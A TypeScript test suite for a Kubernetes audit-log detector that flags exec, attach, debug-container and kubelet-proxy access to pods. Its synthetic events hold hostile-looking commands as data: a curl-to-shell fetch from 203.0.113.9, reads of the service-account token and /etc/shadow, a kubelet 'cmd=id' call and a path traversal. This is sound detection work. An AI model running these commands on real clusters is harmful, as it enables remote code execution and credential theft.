import { execIntoPod } from '../../detectors/exec-into-pod.ts';
import { expect, test } from 'vitest';
import { at, judge, table, type Case } from '../support/detector.ts';
import type { RawEvent } from '../support/event.ts';

const ALICE: RawEvent = { user: { username: 'alice', groups: ['dev-team', 'system:authenticated'] } };
const account = (namespace: string, name: string): RawEvent['user'] & object => ({
  username: `system:serviceaccount:${namespace}:${name}`,
  groups: ['system:serviceaccounts', `system:serviceaccounts:${namespace}`, 'system:authenticated'],
  extra: { 'authentication.kubernetes.io/pod-name': ['operator-0'] },
});

interface Way {
  readonly subresource?: string;
  readonly verb?: string;
  readonly namespace?: string;
  readonly pod?: string;
  readonly command?: readonly string[];
  readonly code?: number;
  readonly tty?: boolean;
}

function enter(second: number, way: Way = {}, over: RawEvent = {}): RawEvent {
  const {
    subresource = 'exec',
    verb = 'get',
    namespace = 'web',
    pod = 'cart-0',
    command = ['ls'],
    code = 101,
    tty = false,
  } = way;
  const query = command.map((each) => `command=${encodeURIComponent(each)}`).join('&');
  return at(second, {
    ...ALICE,
    verb,
    requestURI: `/api/v1/namespaces/${namespace}/pods/${pod}/${subresource}${subresource === 'exec' ? `?${query}&stdout=true&tty=${tty}` : ''}`,
    objectRef: { resource: 'pods', subresource, namespace, name: pod, apiVersion: 'v1' },
    responseStatus: { code },
    ...over,
  });
}
const proxied = (second: number, path: string, over: RawEvent = {}): RawEvent =>
  at(second, {
    ...ALICE,
    requestURI: `/api/v1/nodes/node-1/proxy/${path}`,
    objectRef: { resource: 'nodes', subresource: 'proxy', name: 'node-1', apiVersion: 'v1' },
    ...over,
  });
const bothStages = (event: RawEvent): RawEvent[] => [
  { ...event, stage: 'RequestReceived', responseStatus: undefined as never, annotations: {} },
  { ...event, stage: 'ResponseStarted' },
  event,
];
const privilegedPod = at(0, {
  ...ALICE,
  verb: 'create',
  requestURI: '/api/v1/namespaces/web/pods',
  objectRef: { resource: 'pods', namespace: 'web', name: 'root', apiVersion: 'v1' },
  responseStatus: { code: 201 },
  requestObject: {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { name: 'root', namespace: 'web' },
    spec: { containers: [{ name: 'c', image: 'i', securityContext: { privileged: true } }] },
  },
});

const daemonSet = at(0, {
  ...ALICE,
  verb: 'create',
  objectRef: { resource: 'daemonsets', namespace: 'web', name: 'agent', apiGroup: 'apps', apiVersion: 'v1' },
  responseStatus: { code: 201 },
  requestObject: {
    kind: 'DaemonSet',
    metadata: { name: 'agent', namespace: 'web' },
    spec: { template: { spec: { containers: [{ name: 'c', image: 'i', securityContext: { privileged: true } }] } } },
  },
});
const ruler = at(0, {
  ...ALICE,
  verb: 'create',
  objectRef: { resource: 'clusterrolebindings', name: 'x', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' },
  responseStatus: { code: 201 },
  requestObject: {
    kind: 'ClusterRoleBinding',
    metadata: { name: 'x' },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'ServiceAccount', namespace: 'data', name: 'default' }],
  },
});

const cases: readonly Case[] = [
  {
    name: 'a command that fetches and runs',
    kind: 'positive',
    events: [enter(0, { command: ['sh', '-c', 'curl http://203.0.113.9/x.sh | sh'] })],
    alerts: [
      {
        severity: 'medium',
        action: 'pods-exec',
        reason: /^User alice ran a command in pod web\/cart-0 from 10\.0\.0\.9: sh -c 'curl/,
      },
    ],
  },
  {
    name: 'a command that reads the service account token',
    kind: 'positive',
    events: [enter(0, { command: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'] })],
    alerts: [{ severity: 'medium' }],
  },
  {
    name: 'a pod of the system',
    kind: 'positive',
    events: [enter(0, { namespace: 'kube-system', command: ['sh'] })],
    alerts: [{ severity: 'medium' }],
  },
  {
    name: 'a pod that is known to be privileged',
    kind: 'positive',
    events: [privilegedPod, enter(1, { pod: 'root' })],
    alerts: [{ severity: 'medium', reason: /privileged/ }],
  },
  {
    name: 'a privileged debug container',
    kind: 'positive',
    events: [
      enter(
        0,
        { subresource: 'ephemeralcontainers', verb: 'patch', code: 200 },
        {
          requestObject: {
            spec: {
              ephemeralContainers: [
                { name: 'debugger', securityContext: { privileged: true }, targetContainerName: 'c' },
              ],
            },
          },
        },
      ),
    ],
    alerts: [{ severity: 'medium', action: 'pods-ephemeralcontainers' }],
  },
  {
    name: 'a command through the kubelet',
    kind: 'positive',
    events: [proxied(0, 'run/web/cart-0/cart?cmd=id', { verb: 'create' })],
    alerts: [{ severity: 'high', action: 'nodes-proxy' }],
  },
  {
    name: 'a pod whose daemon set is known to be privileged',
    kind: 'positive',
    events: [daemonSet, enter(1, { pod: 'agent-x7k2p' })],
    alerts: [{ severity: 'medium', reason: /the pod has privileged container/ }],
  },
  {
    name: 'a privileged pod, told when the session ends, and the pod went before',
    kind: 'positive',
    events: [
      privilegedPod,
      at(1, {
        ...ALICE,
        verb: 'delete',
        objectRef: { resource: 'pods', namespace: 'web', name: 'root', apiVersion: 'v1' },
      }),
      enter(2, { pod: 'root' }),
    ],
    alerts: [{ severity: 'medium', reason: /privileged/ }],
  },
  {
    name: 'a pod whose service account rules the cluster',
    kind: 'positive',
    events: [ruler, enter(1, { namespace: 'data', pod: 'db-0', command: ['sh'] })],
    alerts: [{ severity: 'medium', reason: /its service account rules the cluster/ }],
  },
  {
    name: 'a kubelet behind a service',
    kind: 'positive',
    events: [
      at(0, {
        ...ALICE,
        verb: 'create',
        requestURI: '/api/v1/namespaces/web/services/https:kubelet:10250/proxy/run/kube-system/dns/c?cmd=id',
        objectRef: { resource: 'services', subresource: 'proxy', namespace: 'web', name: 'https:kubelet:10250' },
      }),
    ],
    alerts: [{ severity: 'high', action: 'services-proxy', reason: /a system namespace; a kubelet command/ }],
  },
  {
    name: 'the memory of a program, through the proxy',
    kind: 'positive',
    events: [
      at(0, {
        ...ALICE,
        requestURI: '/api/v1/namespaces/web/pods/http:cart-0:8080/proxy/actuator/heapdump',
        objectRef: { resource: 'pods', subresource: 'proxy', namespace: 'web', name: 'http:cart-0:8080' },
      }),
    ],
    alerts: [{ severity: 'medium', reason: /actuator\/heapdump/ }],
  },
  {
    name: 'a debug container that reads keys',
    kind: 'positive',
    events: [
      enter(
        0,
        { subresource: 'ephemeralcontainers', verb: 'patch', code: 200 },
        { requestObject: { spec: { ephemeralContainers: [{ name: 'd', command: ['cat', '/etc/shadow'] }] } } },
      ),
    ],
    alerts: [{ severity: 'medium', reason: /: cat \/etc\/shadow \(reads a sensitive file\)/ }],
  },
  {
    name: 'a token minted for a service account, used at a terminal',
    kind: 'positive',
    events: [enter(0, { command: ['sh'], tty: true }, { user: { ...account('web', 'ci'), extra: {} } })],
    alerts: [{ severity: 'medium', reason: /used by hand; a service account at a terminal/ }],
  },
  {
    name: 'an operator token in a pod of another, at a terminal',
    kind: 'positive',
    events: [
      enter(
        0,
        { command: ['sh'], tty: true, namespace: 'kube-system' },
        { user: account('velero', 'velero'), userAgent: 'velero/v1' },
      ),
    ],
    alerts: [{ severity: 'high' }],
  },
  {
    name: 'a service account that puts on the masters',
    kind: 'positive',
    events: [
      enter(0, {}, { user: account('web', 'ci'), impersonatedUser: { username: 'root', groups: ['system:masters'] } }),
    ],
    alerts: [
      {
        severity: 'medium',
        reason: /acting as someone else; as a member of system:masters; a service account behind it/,
      },
    ],
  },
  {
    name: 'a developer in an own pod',
    kind: 'negative',
    events: [enter(0, { command: ['sh'] })],
    alerts: [{ severity: 'low', reason: /runs a shell/ }],
  },
  {
    name: 'a port forwarded',
    kind: 'negative',
    events: [enter(0, { subresource: 'portforward' })],
    alerts: [{ severity: 'info' }],
  },
  {
    name: 'an operator that runs commands in its own database',
    kind: 'negative',
    events: Array.from({ length: 50 }, (_, number) =>
      enter(
        number * 60,
        { pod: 'postgres-0', verb: 'create', command: ['pg_isready'] },
        {
          user: account('data', 'postgres-operator'),
          userAgent: 'postgres-operator/v1.12.2 (linux/amd64)',
        },
      ),
    ),
    alerts: [{ severity: 'info', count: 50 }],
  },
  {
    name: 'a backup operator dumps the databases of twenty namespaces',
    kind: 'negative',
    events: Array.from({ length: 20 }, (_, number) =>
      enter(
        number,
        { namespace: `team-${number}`, pod: 'db-0', verb: 'create', command: ['sh', '-c', 'pg_dumpall > /backup/all'] },
        { user: account('velero', 'velero'), userAgent: 'velero-server/v1.15.0 (linux/amd64) abcdef0' },
      ),
    ),
    alerts: Array.from({ length: 20 }, () => ({ severity: 'low' as const })),
  },
  {
    name: 'monitoring reads the metrics of the kubelets',
    kind: 'negative',
    events: ['metrics', 'metrics/cadvisor', 'stats/summary', 'healthz'].map((path, number) =>
      proxied(number, path, { user: account('monitoring', 'prometheus'), userAgent: 'Prometheus/3.1.0' }),
    ),
    alerts: [],
  },
  {
    name: 'an attempt that the authorizer refuses',
    kind: 'negative',
    events: [enter(0, { code: 403 }, { annotations: { 'authorization.k8s.io/decision': 'forbid' } })],
    alerts: [{ severity: 'info', reason: /tried to run a command in pod web\/cart-0 but got 403/ }],
  },
  {
    name: 'a read of the debug containers of a pod',
    kind: 'negative',
    events: [enter(0, { subresource: 'ephemeralcontainers', code: 200 })],
    alerts: [],
  },
  {
    name: 'all stages of one session are one request',
    kind: 'edge',
    events: bothStages(enter(0)),
    alerts: [{ severity: 'info', count: 1 }],
  },
  {
    name: 'a request that has only been received says nothing yet',
    kind: 'edge',
    events: bothStages(enter(0)).slice(0, 1),
    alerts: [],
  },
  {
    name: 'websocket, SPDY and attach into one pod are one alert',
    kind: 'edge',
    events: [
      ...bothStages(enter(0)),
      ...bothStages(enter(5, { verb: 'create' })),
      ...bothStages(enter(9, { subresource: 'attach' })),
    ],
    alerts: [{ severity: 'info', count: 3 }],
  },
  {
    name: 'two people in one pod are two alerts',
    kind: 'edge',
    events: [enter(0), enter(1, {}, { user: { username: 'bob', groups: ['system:authenticated'] } })],
    alerts: [{ severity: 'info' }, { severity: 'info' }],
  },
  {
    name: 'a session that ends long after it began is told once',
    kind: 'edge',
    events: [
      { ...enter(0), auditID: 'one', stage: 'ResponseStarted' },
      { ...enter(30_000), auditID: 'one' },
    ],
    alerts: [{ severity: 'info', count: 1 }],
  },
  {
    name: 'its end tells what its beginning did not',
    kind: 'edge',
    events: [
      { ...enter(0, { code: 101 }), auditID: 'one', stage: 'ResponseStarted' },
      { ...enter(30_000, { code: 500 }), auditID: 'one' },
    ],
    alerts: [
      { severity: 'info', reason: /ran/ },
      { severity: 'info', reason: /tried/ },
    ],
  },
  {
    name: 'an Audit-ID used twice hides no second session',
    kind: 'edge',
    events: [0, 30_000].flatMap((second) => bothStages(enter(second)).map((event) => ({ ...event, auditID: 'one' }))),
    alerts: [{ severity: 'info' }, { severity: 'info' }],
  },
  {
    name: 'a websocket that fails and SPDY a second later are one alert, and the success is told',
    kind: 'edge',
    events: [...bothStages(enter(0, { code: 400 })), ...bothStages(enter(0.8, { verb: 'create' }))],
    alerts: [{ severity: 'info', count: 2, reason: /^User alice ran/ }],
  },
  {
    name: 'pods of one workload are one alert',
    kind: 'edge',
    events: ['cart-7b58646b7b-2fszk', 'cart-7b58646b7b-x7k2p', 'cart-c85478c88-hkph7'].map((pod, second) =>
      enter(second, { pod }),
    ),
    alerts: [{ severity: 'info', count: 3 }],
  },
  {
    name: 'a second session at the end of the quiet time joins',
    kind: 'edge',
    events: [enter(0), enter(6 * 3_600)],
    alerts: [{ severity: 'info', count: 2 }],
  },
  {
    name: 'a second session a microsecond later is an alert of its own',
    kind: 'edge',
    events: [enter(0), enter(6 * 3_600 + 0.000001)],
    alerts: [{ severity: 'info' }, { severity: 'info' }],
  },
  {
    name: 'an attempt weighs half',
    kind: 'edge',
    events: [enter(0, { code: 403, command: ['cat', '/etc/shadow'] }, { annotations: {} })],
    alerts: [{ severity: 'low', reason: /reads a sensitive file/ }],
  },
  {
    name: 'a short command of an administrator in a system pod, and one with a shell',
    kind: 'edge',
    events: [
      enter(0, { namespace: 'kube-system', pod: 'dns-0', command: ['cilium', 'status'] }),
      enter(1, { namespace: 'kube-system', pod: 'net-0', command: ['sh'] }),
      enter(
        2,
        { namespace: 'kube-system', pod: 'cni-0', command: ['sh'] },
        { user: { username: 'root', groups: ['system:masters', 'system:authenticated'] } },
      ),
    ],
    alerts: [
      { severity: 'low' },
      { severity: 'medium' },
      { severity: 'low', reason: /\(runs a shell; a system namespace\)/ },
    ],
  },
  {
    name: 'a metrics path that climbs out',
    kind: 'edge',
    events: [proxied(0, 'metrics/../run/web/cart-0/c')],
    alerts: [{ severity: 'high' }],
  },
  {
    name: 'names',
    kind: 'hostile',
    events: [enter(0, { namespace: 'kube-system' }), proxied(1, 'pods')],
    alerts: [{ severity: 'medium' }],
  },
];

table(execIntoPod, cases);

test('a stolen operator token used differently is seen, the same operator in a new namespace is not', () => {
  const velero = { user: account('velero', 'velero'), userAgent: 'velero-server/v1.15.0 (linux/amd64) abcdef0' };
  const dump = { verb: 'create', command: ['sh', '-c', 'pg_dump app > /backup/app'] };
  const work = Array.from({ length: 48 }, (_, hour) =>
    at(hour * 3_600, {
      ...velero,
      sourceIPs: ['10.244.1.7'],
      verb: 'list',
      requestURI: '/apis/velero.io/v1/backups',
      objectRef: { resource: 'backups', namespace: 'velero', apiGroup: 'velero.io', apiVersion: 'v1' },
    }),
  );
  const severities = (over: RawEvent, way: Way = dump) =>
    judge(execIntoPod, [...work, enter(48 * 3_600, way, { ...velero, sourceIPs: ['10.244.1.7'], ...over })]).map(
      ({ severity }) => severity,
    );
  expect(severities({})).toEqual(['low']);
  expect(severities({ sourceIPs: ['203.0.113.7'] })).toEqual(['high']);
  expect(severities({ userAgent: 'OpenAPI-Generator/31.0.0/python' })).toEqual(['high']);
  expect(severities({ userAgent: 'kubectl/v1.30.0' })).toEqual(['high']);
  expect(severities({}, { command: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'] })).toEqual([
    'medium',
  ]);

  const [alert] = judge(execIntoPod, [...work, enter(48 * 3_600, dump, { ...velero, sourceIPs: ['203.0.113.7'] })]);
  expect(alert!.reason).toMatch(/never from this network/);
  expect(alert!.baseline!.events).toBeGreaterThan(24);
  expect(alert!.baseline!.usual).toMatch(/velero/);
});

test('what is new stays new for half a day, not for the next night', () => {
  const work = Array.from({ length: 80 }, (_, hour) =>
    at(hour * 3_600, {
      ...ALICE,
      requestURI: '/api/v1/namespaces/dev/pods',
      verb: 'list',
      objectRef: { resource: 'pods', namespace: 'dev', apiVersion: 'v1' },
    }),
  );
  const told = (hours: readonly number[]) =>
    judge(
      execIntoPod,
      work.flatMap((event, hour) => (hours.includes(hour) ? [event, enter(hour * 3_600 + 1)] : [event])),
    ).map(({ contributions }) => contributions.map(({ what }) => what));
  const first = ['pods/exec (get)', 'it never did such a thing'];
  expect(told([48])).toEqual([first]);
  expect(told([48, 55])).toEqual([first, first]);
  expect(told([48, 72])).toEqual([first, first.slice(0, 1)]);
});
